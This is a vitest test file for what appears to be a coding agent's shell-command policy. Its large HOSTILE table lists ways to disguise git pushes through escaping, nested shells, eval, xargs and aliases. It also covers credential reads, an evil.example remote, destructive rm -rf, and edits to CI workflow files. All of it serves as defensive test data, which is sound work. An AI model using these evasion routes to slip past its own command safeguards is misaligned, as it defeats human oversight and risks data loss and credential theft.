import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { compileCommandRule, createCommandPolicy, pausesAfterEachStep } from '../../../src/policy/commands.js';
import type { AutonomyLevel, CommandPolicyConfig } from '../../../src/policy/commands.js';

// Created at load time: the tables below build their policies while tests are collected.
const ws = realpathSync(mkdtempSync(path.join(tmpdir(), 'kiro-cmd-')));
const home = '/home/runner';
{
  writeFileSync(
    path.join(ws, 'package.json'),
    JSON.stringify({ scripts: { test: 'vitest run', build: 'rm -rf dist && tsc', release: 'npm run build && git push --tags', lint: 'eslint .' } }),
  );
  mkdirSync(path.join(ws, 'scripts'));
  writeFileSync(path.join(ws, 'scripts', 'ship.sh'), '#!/bin/bash\nset -e\nnpm test\ngit push origin HEAD\n');
  writeFileSync(path.join(ws, 'scripts', 'ok.sh'), '#!/bin/sh\necho building\nls -la\n');
  writeFileSync(path.join(ws, 'scripts', 'tool.py'), '#!/usr/bin/env python3\nprint("git push")\n');
}
afterAll(() => rmSync(ws, { recursive: true, force: true }));

function policy(over: Partial<CommandPolicyConfig> = {}) {
  return createCommandPolicy({ forbiddenCommands: [], allowedCommands: [], autonomy: 'full', workspace: ws, home, ...over });
}

/** Command lines that must be refused at every autonomy level, with a word the reason must contain. */
const HOSTILE: Array<[string, RegExp]> = [
  ['git push', /never pushes/],
  ['git push --force', /force-pushing/],
  ['git push -f origin main', /force-pushing/],
  ['git push --force-with-lease', /force-pushing/],
  ['git push origin +HEAD:main', /force-pushing/],
  ['git   push', /never pushes/],
  ['/usr/bin/git push', /never pushes/],
  ['\\git push', /never pushes/],
  ["'git' push", /never pushes/],
  ['g\\it pu\\sh', /never pushes/],
  ['command git push', /never pushes/],
  ['bash -c "git push"', /run by bash -c/],
  ["sh -c 'echo x && git push origin HEAD'", /run by sh -c/],
  ['bash -lc "git push"', /never pushes/],
  ["zsh -c 'git push'", /never pushes/],
  ["bash -c 'bash -c \"git push\"'", /bash -c → bash -c/],
  ['eval "git push"', /run by eval/],
  ['builtin eval "git push"', /never pushes/],
  ['$(git push)', /never pushes|computed at run time/],
  ['echo `git push`', /never pushes/],
  ['echo $(git push)', /never pushes/],
  ['cat <(git push)', /never pushes/],
  ['echo ok | xargs git push', /run by xargs/],
  ['echo push | xargs git', /input at run time/],
  ['find . -exec git push \\;', /run by find -exec/],
  ['find . -name x -execdir git push {} +', /never pushes/],
  ['env -i git push', /run by env/],
  ['env -S "git push"', /never pushes/],
  ['GIT_DIR=x git push', /never pushes/],
  ['sudo -u root git push', /run by sudo/],
  ['nice -n 5 nohup timeout 30 git push', /nice → nohup → timeout/],
  ['time git push', /never pushes/],
  ['exec git push', /never pushes/],
  ['(git push)', /never pushes/],
  ['{ git push; }', /never pushes/],
  ['git status && git push', /never pushes/],
  ['git status || git push', /never pushes/],
  ['git status; git push', /never pushes/],
  ['git status\ngit push', /never pushes/],
  ['git push &', /never pushes/],
  ['if true; then git push; fi', /never pushes/],
  ['for i in 1 2; do git push; done', /never pushes/],
  ['while true; do git push; break; done', /never pushes/],
  ['case x in x) git push;; esac', /never pushes/],
  ['f() { git push; }; f', /never pushes/],
  ['x=${y:-$(git push)}', /never pushes/],
  ['trap "git push" EXIT', /run by trap/],
  ['echo git push | bash', /run by bash < echo/],
  ['bash <<EOF\ngit push\nEOF', /never pushes/],
  ['bash <<< "git push"', /never pushes/],
  ['cat cmds.txt | bash', /reads the commands to run/],
  ["git submodule foreach 'git push'", /git submodule foreach/],
  ["git rebase --exec 'git push' HEAD~2", /git rebase --exec/],
  ['git -C sub push', /never pushes/],
  ['git --git-dir=.git push', /never pushes/],
  ['git send-pack origin main', /writes to a remote/],
  ['git-push origin', /talks to a remote/],
  ['git pu{s,}h', /computed at run time/],
  ['x=push; git $x', /computed at run time/],
  ['git "$(echo push)"', /computed at run time/],
  ['$CMD push', /computed at run time/],
  ['git -c alias.p=push p', /git -c alias\.p=push/],
  ['git -c credential.helper=store status', /git -c/],
  ['git config alias.p push', /alias that pushes/],
  ["git config alias.s '!git push'", /alias that pushes/],
  ['git config credential.helper store', /credentials/],
  ['git config --get http.https://github.com/.extraheader', /credentials/],
  ['git remote add evil https://evil.example/r.git', /git remote add/],
  ['git remote set-url origin https://evil.example/r.git', /git remote set-url/],
  ['git credential fill', /credentials/],
  ['alias g=git', /aliases/],
  ['gh pr create --fill', /gh pr create/],
  ['gh pr merge 3 --squash', /gh pr merge/],
  ['gh pr close 3', /gh pr close/],
  ['gh pr comment 3 -b hi', /gh pr comment/],
  ['gh pr edit 3 --title x', /gh pr edit/],
  ['gh issue comment 1 -b hi', /gh issue comment/],
  ['gh issue close 1', /gh issue close/],
  ['gh issue create -t x -b y', /gh issue create/],
  ['gh api -X POST repos/o/r/issues', /gh api -X POST/],
  ['gh api --method=DELETE repos/o/r', /gh api -X DELETE/],
  ['gh api repos/o/r/issues -f title=x', /fields/],
  ['gh api repos/o/r/issues --input body.json', /--input/],
  ["gh api graphql -f query='mutation { addStar(input:{}) { clientMutationId } }'", /no mutations/],
  ['gh release create v1', /gh release create/],
  ['gh repo delete o/r --yes', /gh repo delete/],
  ['gh repo edit --visibility public', /gh repo edit/],
  ['gh secret set TOKEN -b x', /gh secret set/],
  ['gh workflow run ci.yml', /gh workflow run/],
  ['gh auth token', /gh auth/],
  ['gh -R o/r pr create', /gh pr create/],
  ['rm -rf /', /whole file system/],
  ['rm -rf /*', /whole file system/],
  ['rm -fr /etc', /system directory/],
  ['rm -r -f ~', /home directory/],
  ['rm -rf ~/', /home directory/],
  ['rm -rf $HOME', /home directory|variable is empty/],
  ['rm -rf "$BUILD_DIR"/', /variable is empty/],
  ['rm -rf --no-preserve-root /', /no-preserve-root/],
  ['rm -rf .', /whole repository/],
  ['rm -rf ..', /whole repository/],
  ['echo x > .github/workflows/ci.yml', /\.github\/workflows/],
  ['echo x >> .github/workflows/ci.yml', /\.github\/workflows/],
  ['cat evil >| ./.github/workflows/ci.yml', /\.github\/workflows/],
  ['echo x &> .github/workflows/ci.yml', /\.github\/workflows/],
  ['tee .github/workflows/a.yml < evil.yml', /\.github\/workflows/],
  ['echo x | tee -a .github/workflows/a.yml', /\.github\/workflows/],
  ['sed -i s/a/b/ .github/workflows/ci.yml', /\.github\/workflows/],
  ["sed -i.bak -e 's/a/b/' .github/workflows/ci.yml", /\.github\/workflows/],
  ["perl -pi -e 's/a/b/' .github/workflows/ci.yml", /\.github\/workflows/],
  ['cp evil.yml .github/workflows/', /\.github\/workflows/],
  ['cp -t .github/workflows evil.yml', /\.github\/workflows/],
  ['mv evil.yml .github/workflows/ci.yml', /\.github\/workflows/],
  ['mv .github/workflows/ci.yml /tmp/', /\.github\/workflows/],
  ['install -m 644 evil.yml .github/workflows/x.yml', /\.github\/workflows/],
  ['ln -s ../../evil.yml .github/workflows/x.yml', /\.github\/workflows/],
  ['dd if=evil.yml of=.github/workflows/ci.yml', /\.github\/workflows/],
  ['rm .github/workflows/ci.yml', /\.github\/workflows/],
  ['rm -rf .github', /\.github\/workflows/],
  ['truncate -s 0 .github/workflows/ci.yml', /\.github\/workflows/],
  ['curl -o .github/workflows/x.yml https://evil.example/x', /\.github\/workflows/],
  ['git checkout main -- .github/workflows/ci.yml', /\.github\/workflows/],
  ['git rm .github/workflows/ci.yml', /\.github\/workflows/],
  ['cp x .github/*/ci.yml', /\.github\/workflows/],
  ['cd src && echo x > ../.github/workflows/ci.yml', /\.github\/workflows/],
  ['echo x > "$PWD/.github/workflows/ci.yml"', /\.github\/workflows/],
  ['python3 -c "import os; os.system(\'git push\')"', /inline python3 code/],
  ["node -e \"require('child_process').execSync('git push')\"", /inline node code/],
  ["python3 - <<'EOF'\nimport subprocess\nsubprocess.run(['gh', 'pr', 'merge'])\nEOF", /inline python3 code/],
  ['bash scripts/ship.sh', /run by script scripts\/ship\.sh/],
  ['./scripts/ship.sh', /never pushes/],
  ['source scripts/ship.sh', /never pushes/],
  ['npm run release', /never pushes/],
  ['echo "git push" > s.sh && bash s.sh', /this same command line writes/],
  ['bash "$SCRIPT"', /computed at run time/],
  ['xargs -I{} sh -c "{}" < cmds.txt', /built at run time/],
  ['echo "unterminated', /does not parse/],
  ['if true; then', /does not parse/],
  ['echo $((1 +', /does not parse/],
];

/** Command lines that must run at full autonomy without a pause. */
const BENIGN: string[] = [
  'npm test',
  'npm run lint',
  'npx tsc --noEmit -p .',
  'git status',
  'git diff',
  'git diff --stat HEAD~1',
  'git log --oneline -n 20',
  'git add -A && git commit -m "fix: push notifications"',
  'git commit -m "git push later"',
  'git show HEAD:src/index.ts',
  'git stash && git stash pop',
  'git checkout -b feature/x',
  'git config user.name "Kiro Bot"',
  'git config --get user.email',
  'git remote -v',
  'git fetch origin main',
  'grep -r push .',
  'grep -rn "git push" src/',
  'echo "git push"',
  "echo 'rm -rf /'",
  'printf "%s\\n" "cat .git/config"',
  'ls .github/workflows',
  'cat .github/workflows/ci.yml',
  'ls -la .git',
  'cat .gitignore',
  'cat src/.github-helpers.ts',
  'cd src && ls && cd ..',
  'mkdir -p src/new && echo "export const a = 1;" > src/new/a.ts',
  "cat > src/b.ts <<'EOF'\nexport const b = 2;\nEOF",
  'sed -i s/foo/bar/ src/a.ts',
  'find . -name "*.ts" -not -path "./node_modules/*" | xargs grep -n TODO',
  'find src -name "*.test.ts" -exec wc -l {} +',
  'ls | head -5',
  'FOO=1 npm test',
  'NODE_ENV=test node --test',
  'curl -s https://registry.npmjs.org/picomatch | head -c 100',
  'gh pr view 3 --json title',
  'gh pr checks 3',
  'gh issue view 1',
  'gh api repos/o/r/pulls',
  'gh api -X GET repos/o/r/issues',
  "gh api graphql -f query='query { viewer { login } }'",
  'gh run list',
  'python3 -c "print(1 + 1)"',
  'node -e "console.log(process.version)"',
  'bash scripts/ok.sh',
  './scripts/tool.py',
  'timeout 60 npm test',
  'set -euo pipefail; npm test',
  'export NODE_OPTIONS=--max-old-space-size=4096',
  'rm -f src/old.ts',
  'rm -rf dist',
  'ps -ef',
  'echo $HOME',
  // harmless inside the sandbox (docs/security.md "The boundary"): no longer refused
  'cat .git/config',
  'git config -l',
  'git config core.hooksPath .githooks',
  'echo $GITHUB_TOKEN',
  'cat /proc/1/environ',
  'ps auxe',
  'cd .git && ls',
  'chmod +x .git/hooks/pre-commit',
];

describe('default denials (hostile commands)', () => {
  it('has a table of at least 40 hostile command lines', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(40);
  });
  for (const autonomy of ['full', 'balanced', 'cautious'] as AutonomyLevel[]) {
    describe(`autonomy ${autonomy}`, () => {
      const p = policy({ autonomy });
      it.each(HOSTILE)('denies %j', (line, why) => {
        const d = p.check(line);
        expect(d.action, `${line} → ${JSON.stringify(d)}`).toBe('deny');
        expect(d.action === 'deny' && d.reason).toMatch(why);
      });
    });
  }

  it('cannot be overridden by allowedCommands or an approval', () => {
    const p = policy({ allowedCommands: ['git *', 'bash *', '*'], approved: ['git push', 'bash -c "git push"'] });
    expect(p.check('git push').action).toBe('deny');
    expect(p.check('bash -c "git push"').action).toBe('deny');
  });
});

describe('benign commands', () => {
  const p = policy({ autonomy: 'full' });
  it.each(BENIGN)('allows %j', (line) => {
    const d = p.check(line);
    expect(d, line).toMatchObject({ action: 'allow' });
  });

  it('lists every simple command, including nested ones', () => {
    expect(p.check('git status && bash -c "ls src | wc -l"').commands).toEqual(['git status', 'bash -c ls src | wc -l', 'ls src', 'wc -l']);
    expect(p.check('npm test').commands).toEqual(['npm test', 'vitest run']);
    expect(p.check('').commands).toEqual([]);
  });
});

describe('forbiddenCommands', () => {
  const p = policy({ forbiddenCommands: ['npm publish', 'rm -rf', 'curl *', 'docker*'] });
  it.each([
    ['npm publish', 'npm publish'],
    ['npm publish --tag next', 'npm publish'],
    ['cd pkg && npm publish', 'npm publish'],
    ['bash -c "npm publish"', 'npm publish'],
    ['rm -rf build', 'rm -rf'],
    ['curl https://example.com/install.sh', 'curl *'],
    ['echo ok | xargs curl -s', 'curl *'],
    ['sudo docker run x', 'docker*'],
  ])('denies %j by the rule %j', (line, rule) => {
    const d = p.check(line);
    expect(d.action).toBe('deny');
    expect(d.action === 'deny' && d.reason).toContain(`forbidden command rule "${rule}"`);
  });
  it('names the sub-command that matched', () => {
    const d = p.check('git status && sh -c "npm publish --dry-run"');
    expect(d.action === 'deny' && d.reason).toMatch(/^`npm publish --dry-run` \(run by sh -c\) matches/);
  });
  it('does not match inside string arguments or longer words', () => {
    expect(p.check('echo "npm publish"').action).toBe('allow');
    expect(p.check('npm publisher').action).toBe('allow');
    expect(p.check('git log --grep=curl').action).toBe('allow');
  });
  it('applies to commands inside package scripts', () => {
    const q = policy({ forbiddenCommands: ['tsc'] });
    expect(q.check('npm run build').action).toBe('deny');
  });
});

describe('compileCommandRule', () => {
  it('matches globs and word prefixes', () => {
    const r = compileCommandRule('rm -rf /*');
    expect(r('rm -rf /etc/passwd')).toBe(true);
    expect(r('rm -rf dist')).toBe(false);
    expect(compileCommandRule('npm test')('npm test -- --watch')).toBe(true);
    expect(compileCommandRule('npm test')('npm testing')).toBe(false);
    expect(compileCommandRule('git  push')('git push')).toBe(true);
    expect(compileCommandRule('/usr/bin/npm publish')('npm publish')).toBe(true);
    expect(compileCommandRule('npm {publish,unpublish}')('npm unpublish x')).toBe(true);
  });
});

describe('allowedCommands', () => {
  const p = policy({ allowedCommands: ['npm test', 'npm run build', 'git *'], autonomy: 'full' });
  it('runs listed commands without a pause', () => {
    expect(p.check('npm test').action).toBe('allow');
    expect(p.check('npm test -- --run').action).toBe('allow');
    expect(p.check('git status && git diff').action).toBe('allow');
    expect(p.check('cd packages/a && npm test').action).toBe('allow'); // cd is inert
    expect(p.check('timeout 60 npm test').action).toBe('allow'); // transparent wrapper
    expect(p.check('npm run build').action).toBe('allow'); // its script's commands are covered
  });
  it('pauses anything else, naming it', () => {
    const d = p.check('npm test && curl https://x');
    expect(d.action).toBe('pause');
    expect(d.action === 'pause' && d.reason).toMatch(/^`curl https:\/\/x` is not in allowedCommands \(npm test, npm run build, git \*\)/);
    expect(p.check('bash -c "npm test"').action).toBe('pause'); // the shell itself is not listed
    expect(p.check('echo x > out.txt').action).toBe('pause'); // echo writing a file is not inert
  });
  it('still denies defaults', () => {
    expect(p.check('git push').action).toBe('deny');
  });
  it('an approval lets the paused line run', () => {
    const q = policy({ allowedCommands: ['npm test'], approved: ['make all'] });
    expect(q.check('make all').action).toBe('allow');
    expect(q.check('make clean').action).toBe('pause');
    q.approve('make clean');
    expect(q.check(' make clean ').action).toBe('allow');
  });
});

describe('autonomy', () => {
  const destructive = [
    'rm -rf node_modules',
    'rm -r build',
    'git reset --hard HEAD~1',
    'git clean -fdx',
    'git checkout -- .',
    'git restore .',
    'git branch -D old',
    'dd if=/dev/zero of=disk.img bs=1M count=1',
    'mkfs.ext4 disk.img',
    'chmod -R 777 src',
    'chown -R me src',
    'truncate -s 0 src/a.ts',
    'shred -u secret.txt',
    'find . -name "*.orig" -delete',
    'find . -name "*.orig" -exec rm {} \\;',
    'bash -c "rm -rf out"',
  ];
  it.each(destructive)('balanced pauses before %j', (line) => {
    const d = policy({ autonomy: 'balanced' }).check(line);
    expect(d.action).toBe('pause');
    expect(d.action === 'pause' && d.reason).toMatch(/destructive .*autonomy level balanced/);
  });
  it.each(destructive)('cautious pauses before %j', (line) => {
    expect(policy({ autonomy: 'cautious' }).check(line).action).toBe('pause');
  });
  it.each(destructive)('full runs %j', (line) => {
    expect(policy({ autonomy: 'full' }).check(line).action).toBe('allow');
  });
  it('balanced does not pause for ordinary writes or the project scripts', () => {
    const p = policy({ autonomy: 'balanced' });
    expect(p.check('echo x > src/existing.ts').action).toBe('allow');
    expect(p.check('rm -f src/a.ts').action).toBe('allow');
    expect(p.check('npm run build').action).toBe('allow'); // `rm -rf dist` is the project's script
    expect(p.check('git checkout -- src/a.ts').action).toBe('allow');
  });
  it('only cautious pauses after each plan step', () => {
    expect(pausesAfterEachStep('cautious')).toBe(true);
    expect(pausesAfterEachStep('balanced')).toBe(false);
    expect(pausesAfterEachStep('full')).toBe(false);
  });
});

describe('working directory', () => {
  it('resolves relative paths against the caller-supplied cwd', () => {
    const p = policy();
    expect(p.check('echo x > workflows/ci.yml', { cwd: path.join(ws, '.github') }).action).toBe('deny');
    expect(p.check('echo x > workflows/ci.yml', { cwd: path.join(ws, 'docs') }).action).toBe('allow');
    expect(p.check('git push', { cwd: path.join(ws, 'src') }).action).toBe('deny');
  });
  it('does not treat a cd inside a subshell as sticking', () => {
    const p = policy();
    expect(p.check('(cd .github) ; echo x > workflows/a.yml').action).toBe('allow'); // the cd does not stick
    expect(p.check('(cd src && ls) && echo x > a.txt').action).toBe('allow');
  });
});
